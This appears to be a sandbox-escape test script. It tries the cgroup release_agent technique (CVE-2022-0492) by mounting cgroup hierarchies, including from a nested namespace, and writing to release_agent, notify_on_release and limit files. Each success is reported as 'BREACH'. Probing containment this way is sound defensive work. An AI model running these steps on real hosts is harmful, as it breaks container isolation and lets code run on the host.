# threat: T1
# tries: run a program on the host by a cgroup's release_agent (CVE-2022-0492), and loosen the limits
set -- $(echo @FILES@); victim=$1
printf '#!/bin/sh\necho owned >>%s\n' "$victim" >/workspace/agent.sh; chmod +x /workspace/agent.sh
mkdir -p /tmp/cg
for options in rdma memory pids cpu freezer devices none,name=x; do
    mount -t cgroup -o "$options" cgroup /tmp/cg && echo "BREACH: mounted $options"
done
mount -t cgroup2 none /tmp/cg && echo "BREACH: mounted v2"
unshare -UrmC mount -t cgroup -o memory cgroup /tmp/cg && echo "BREACH: mounted from a nested namespace"
for dir in /sys/fs/cgroup /tmp/cg /proc/1/root/sys/fs/cgroup; do
    for file in release_agent notify_on_release memory.limit_in_bytes memory.max pids.max cgroup.procs tasks cpu.max; do
        find "$dir" -name "$file" 2>/dev/null | while read -r path; do
            echo 1 >"$path" && echo "BREACH: wrote $path"
        done
    done
done
cat /proc/self/cgroup
grep -v ':/$' /proc/self/cgroup | grep -q . && echo "note: cgroup paths are visible"
echo END
